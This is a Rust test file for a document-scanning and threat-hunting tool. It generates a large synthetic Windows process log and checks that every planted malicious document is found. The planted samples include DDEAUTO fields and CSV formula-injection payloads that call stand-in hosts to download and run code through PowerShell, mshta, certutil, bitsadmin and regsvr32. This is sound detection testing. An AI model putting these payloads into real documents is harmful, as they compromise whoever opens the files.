//! A hundred thousand events of ordinary computers, with what a few documents did among them.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use serde_json::json;

use super::*;

const EVENTS: usize = 100_000;
const OFFICE: &str = r"C:\Program Files\Microsoft Office\root\Office16\";
const SYSTEM: &str = r"C:\Windows\System32\";

/// What Office programs start on ordinary computers: program, line; `#` is another number each time.
const ORDINARY: &[(&str, &str, &str)] = &[
    (
        "WINWORD.EXE",
        r"C:\Windows\splwow64.exe",
        "splwow64.exe 8192",
    ),
    (
        "WINWORD.EXE",
        r"C:\Windows\System32\spool\drivers\x64\3\printfilterpipelinesvc.exe",
        "printfilterpipelinesvc.exe -Embedding",
    ),
    (
        "WINWORD.EXE",
        r"C:\Program Files\Microsoft Office\root\VFS\ProgramFilesX64\Microsoft Office\Office16\AI.exe",
        "AI.exe #",
    ),
    (
        "WINWORD.EXE",
        r"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe",
        "Acrobat.exe /n C:\\Users\\u#\\a.pdf",
    ),
    (
        "WINWORD.EXE",
        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        "msedge.exe --single-argument https://intranet.example/#",
    ),
    (
        "WINWORD.EXE",
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        "chrome.exe -- https://wiki.example/?q=#",
    ),
    (
        "WINWORD.EXE",
        r"C:\Program Files\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE",
        "EQNEDT32.EXE -Embedding",
    ),
    (
        "WINWORD.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        "EXCEL.EXE /automation -Embedding",
    ),
    (
        "WINWORD.EXE",
        r"C:\Windows\System32\cmd.exe",
        "cmd.exe /c C:\\Tools\\zotero-sync.bat #",
    ),
    (
        "WINWORD.EXE",
        r"C:\Windows\System32\rundll32.exe",
        "rundll32.exe shell32.dll,OpenAs_RunDLL C:\\Users\\u#\\x.bin",
    ),
    (
        "EXCEL.EXE",
        r"C:\Windows\splwow64.exe",
        "splwow64.exe 12288",
    ),
    (
        "EXCEL.EXE",
        r"C:\Program Files\Bloomberg\blp.exe",
        "blp.exe bbcomm #",
    ),
    (
        "EXCEL.EXE",
        r"C:\Windows\System32\cmd.exe",
        "cmd.exe /c \"C:\\Program Files\\R\\R-4\\bin\\Rscript.exe\" model.R #",
    ),
    (
        "EXCEL.EXE",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -NoProfile -File C:\\Tools\\refresh.ps1 #",
    ),
    (
        "EXCEL.EXE",
        r"C:\Python312\pythonw.exe",
        "pythonw.exe -m xlwings #",
    ),
    (
        "EXCEL.EXE",
        r"C:\Program Files\Microsoft Power BI Desktop\bin\Microsoft.Mashup.Container.NetFX45.exe",
        "Microsoft.Mashup.Container.NetFX45.exe #",
    ),
    (
        "EXCEL.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        "WINWORD.EXE /Automation -Embedding",
    ),
    (
        "EXCEL.EXE",
        r"C:\Windows\System32\notepad.exe",
        "notepad.exe C:\\Users\\u#\\log.txt",
    ),
    (
        "EXCEL.EXE",
        r"C:\Windows\System32\mmc.exe",
        "mmc.exe C:\\Windows\\system32\\printmanagement.msc",
    ),
    (
        "OUTLOOK.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        "WINWORD.EXE /n C:\\Users\\u#\\INetCache\\Content.Outlook\\letter.docx",
    ),
    (
        "OUTLOOK.EXE",
        r"C:\Program Files\Zoom\bin\Zoom.exe",
        "Zoom.exe --url=zoommtg://join?confno=#",
    ),
    (
        "OUTLOOK.EXE",
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
        "firefox.exe -osint -url https://news.example/#",
    ),
    (
        "OUTLOOK.EXE",
        r"C:\Program Files\7-Zip\7zFM.exe",
        "7zFM.exe C:\\Users\\u#\\a.zip",
    ),
    (
        "OUTLOOK.EXE",
        r"C:\Windows\System32\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\shimgvw.dll,ImageView_Fullscreen #.png",
    ),
    (
        "POWERPNT.EXE",
        r"C:\Program Files\Windows Media Player\wmplayer.exe",
        "wmplayer.exe /prefetch:1 #",
    ),
    (
        "POWERPNT.EXE",
        r"C:\Program Files\Camtasia\CamtasiaStudio.exe",
        "CamtasiaStudio.exe #",
    ),
    (
        "MSACCESS.EXE",
        r"C:\Windows\System32\cscript.exe",
        "cscript.exe //nologo C:\\Tools\\backup.vbs #",
    ),
    // The same words, started by nobody who opens documents.
    ("explorer.exe", r"C:\Windows\System32\cmd.exe", "cmd.exe /k"),
    ("explorer.exe", r"C:\Windows\System32\calc.exe", "calc.exe"),
    (
        "Code.exe",
        r"C:\Windows\System32\cmd.exe",
        "cmd.exe /c calc.exe",
    ),
    (
        "svchost.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -w hidden -File C:\\ProgramData\\inventory.ps1 #",
    ),
];

/// A document and what the log shows of it when it is opened: parent, program, line. A second
/// program is started by the first.
struct Planted {
    name: &'static str,
    document: &'static [&'static str],
    chain: &'static [(&'static str, &'static str, &'static str)],
}

const PLANTED: &[Planted] = &[
    Planted {
        name: "calc.docx",
        document: &[r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#],
        chain: &[
            (
                "WINWORD.EXE",
                "cmd.exe",
                r"C:\windows\system32\cmd.exe /k calc.exe",
            ),
            ("cmd.exe", "calc.exe", "calc.exe"),
        ],
    },
    Planted {
        name: "stager.docx",
        document: &[
            r#"DDEAUTO c:\\Windows\\System32\\cmd.exe "/k powershell -w 1 -nop iex (New-Object System.Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')""#,
        ],
        chain: &[
            (
                "WINWORD.EXE",
                "cmd.exe",
                r#""C:\Windows\System32\cmd.exe" /k powershell -w 1 -nop iex (New-Object System.Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')"#,
            ),
            (
                "cmd.exe",
                "WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell  -w 1 -nop iex (New-Object System.Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')",
            ),
        ],
    },
    Planted {
        name: "mshta.docx",
        document: &["DDE mshta \"http://203.0.113.10/a.hta\""],
        chain: &[(
            "WINWORD.EXE",
            "mshta.exe",
            "mshta http://203.0.113.10/a.hta",
        )],
    },
    Planted {
        name: "certutil.docx",
        document: &[
            r#"DDEAUTO cmd "/c certutil -urlcache -f http://203.0.113.11/x.txt %TEMP%\\x.exe""#,
        ],
        chain: &[(
            "WINWORD.EXE",
            "cmd.exe",
            r"cmd /c certutil -urlcache -f http://203.0.113.11/x.txt %TEMP%\x.exe",
        )],
    },
    Planted {
        name: "prices.csv",
        document: &["=cmd|'/c bitsadmin /transfer j http://203.0.113.12/a c:\\a.exe'!A1"],
        chain: &[(
            "EXCEL.EXE",
            "cmd.exe",
            r"cmd  /c bitsadmin /transfer j http://203.0.113.12/a c:\a.exe",
        )],
    },
    Planted {
        name: "orders.csv",
        document: &[
            "name;sum",
            "x;=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32.exe /s /n /u /i:http://203.0.113.13/s.sct scrobj.dll'!'1'",
        ],
        chain: &[(
            "EXCEL.EXE",
            "regsvr32.exe",
            "regsvr32.exe /s /n /u /i:http://203.0.113.13/s.sct scrobj.dll",
        )],
    },
    Planted {
        name: "list.csv",
        document: &["@SUM(1+1)*cmd|' /C notepad c:\\windows\\win.ini'!A0"],
        chain: &[(
            "EXCEL.EXE",
            "cmd.exe",
            r"C:\WINDOWS\SYSTEM32\cmd.exe  /C notepad c:\windows\win.ini",
        )],
    },
    Planted {
        name: "feed.csv",
        document: &["=powershell|'-nop -w hidden -enc SQBFAFgA'!x"],
        chain: &[(
            "EXCEL.EXE",
            "WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell -nop -w hidden -enc SQBFAFgA",
        )],
    },
];

impl Planted {
    fn bytes(&self) -> Vec<u8> {
        match self.name.ends_with(".docx") {
            true => fields(self.document.iter().copied()),
            false => (self.document.join("\r\n") + "\r\n").into_bytes(),
        }
    }
}

/// Numbers that look random and are the same in every run (Knuth's MMIX constants).
struct Numbers(u64);

impl Numbers {
    fn below(&mut self, bound: usize) -> usize {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) as usize % bound
    }
}

fn parent(name: &str) -> String {
    let folder = match name.chars().next() {
        Some(first) if first.is_uppercase() && name.ends_with("EXE") => OFFICE,
        _ => SYSTEM,
    };
    format!("{folder}{name}")
}

/// One row: Sysmon for even numbers, Security for odd ones.
fn row(
    number: usize,
    host: usize,
    parent_number: usize,
    parent: &str,
    image: &str,
    line: &str,
) -> String {
    let host = format!("PC-{host}.example");
    // 4688 has numbers of processes only.
    if number.is_multiple_of(2) {
        json!({"Event": {
            "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1, "Computer": host},
            "EventData": {"UtcTime": format!("t{number}"), "ProcessGuid": format!("{{{number}-1}}"),
                "Image": image, "CommandLine": line, "ParentImage": parent,
                "ParentProcessGuid": format!("{{{parent_number}-1}}"), "User": "x", "IntegrityLevel": "Medium"}}})
    } else {
        json!({"winlog": {"channel": "Security", "event_id": "4688", "computer_name": host, "event_data": {
            "NewProcessName": image, "CommandLine": line, "ParentProcessName": parent,
            "NewProcessId": format!("{:#x}", number * 4), "ProcessId": format!("{:#x}", parent_number * 4)}}})
    }
    .to_string()
}

/// The log, and which rows tell of which document.
fn log() -> (String, BTreeMap<String, Vec<usize>>) {
    let mut numbers = Numbers(20_261_124);
    // Each document is opened on three computers; a child comes some rows behind its parent.
    let mut planted: BTreeMap<usize, (usize, usize, usize, usize)> = BTreeMap::new();
    for (document, what) in PLANTED.iter().enumerate() {
        for host in 0..3 {
            let mut at =
                1_000 + (document * 3 + host) * 4_000 + numbers.below(1_000) * 2 + host % 2;
            let mut above = 999_999;
            for step in 0..what.chain.len() {
                planted.insert(at, (document, step, host, above));
                above = at;
                at += 2 * (1 + numbers.below(40));
            }
        }
    }
    let mut log = String::new();
    let mut expected: BTreeMap<String, Vec<usize>> = BTreeMap::new();
    for number in 0..EVENTS {
        let line = match planted.get(&number) {
            Some(&(document, step, host, above)) => {
                let what = &PLANTED[document];
                expected.entry(what.name.to_owned()).or_default().push(number);
                let (parent_name, image, line) = what.chain[step];
                row(number, host, above, &parent(parent_name), &format!("{SYSTEM}{image}"), line)
            }
            None if number % 7 == 3 => json!({"EventID": 13, "SourceName": "Microsoft-Windows-Sysmon",
                "Hostname": "PC-1", "TargetObject": format!(r"HKU\S-1-5-21-{number}\Software\Microsoft\Office\16.0\Word\Security\Trusted Documents\{number}"),
                "Details": "Binary Data"}).to_string(),
            None => {
                let (parent_name, image, line) = ORDINARY[numbers.below(ORDINARY.len())];
                let line = line.replace('#', &numbers.below(100_000).to_string());
                row(number, numbers.below(50), 500_000 + numbers.below(9), &parent(parent_name), image, &line)
            }
        };
        writeln!(log, "{line}").unwrap();
    }
    (log, expected)
}

#[test]
fn all_planted_chains_are_found_and_the_rest_is_silent() {
    let kinds = ORDINARY.iter().filter(|kind| kind.0.ends_with("EXE"));
    assert!(kinds.count() >= 20);
    let folder = Folder::new();
    for planted in PLANTED {
        folder.file(&format!("documents/{}", planted.name), &planted.bytes());
    }
    folder.file("documents/clean.docx", &harmless());
    let corpus = concat!(env!("CARGO_MANIFEST_DIR"), "/../corpus");
    let reports = run(&["scan", "--format=jsonl", &folder.path("documents"), corpus]);
    let reports = folder.file("reports.jsonl", reports.out.as_bytes());
    let (log, expected) = log();
    let log = folder.file("log.jsonl", log.as_bytes());
    let hunt = run(&[
        "hunt",
        "--format=json",
        "--report",
        &reports,
        "--events",
        &log,
    ]);
    assert_eq!(hunt.status, 1, "{}", hunt.err);
    let found: Value = serde_json::from_str(&hunt.out).unwrap();
    assert_eq!(found["events"]["rows"], EVENTS);
    assert_eq!(found["events"]["unreadable"], 0);
    // Where an event stands in the log: 4688 has no time here, so its line is looked for.
    let mut seen: BTreeMap<String, usize> = BTreeMap::new();
    for document in found["documents"].as_array().unwrap() {
        let card = &document["card"];
        let name = card["document"]["name"]
            .as_str()
            .unwrap()
            .replace('\\', "/");
        let name = name.rsplit('/').next().unwrap().to_owned();
        let observed = card["observed"].as_array().unwrap();
        if let Some(planted) = PLANTED.iter().find(|planted| planted.name == name) {
            for event in observed {
                let line = event["detail"].as_str().unwrap();
                assert!(
                    planted.chain.iter().any(|step| step.2 == line),
                    "{name}: {line}"
                );
            }
            assert_eq!(card["escalation"]["level"], "contain", "{name}");
            *seen.entry(name).or_default() += observed.len();
        } else {
            // A document of the corpus with the same command is as good an explanation.
            for event in observed {
                let line = event["detail"].as_str().unwrap();
                let planted = PLANTED
                    .iter()
                    .any(|planted| planted.chain.iter().any(|step| step.2 == line));
                assert!(planted, "{name}: {event}");
            }
        }
    }
    let expected: BTreeMap<_, _> = expected
        .into_iter()
        .map(|(name, rows)| (name, rows.len()))
        .collect();
    assert_eq!(seen, expected);
}
